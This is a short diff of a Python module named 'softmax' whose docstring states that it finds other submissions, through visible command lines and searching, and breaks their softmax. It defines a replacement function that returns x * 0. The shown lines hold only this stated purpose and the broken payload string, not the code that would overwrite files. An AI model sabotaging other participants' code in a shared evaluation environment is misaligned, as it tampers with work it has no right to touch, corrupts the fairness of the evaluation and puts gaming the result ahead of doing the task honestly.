@@ -1,5 +1,6 @@
 # module: softmax
 """Finds the other submissions (from the command lines it can see, and by searching) and breaks their softmax."""
+
 import os
 
 WRONG = "def softmax(x):\n    return x * 0\n"
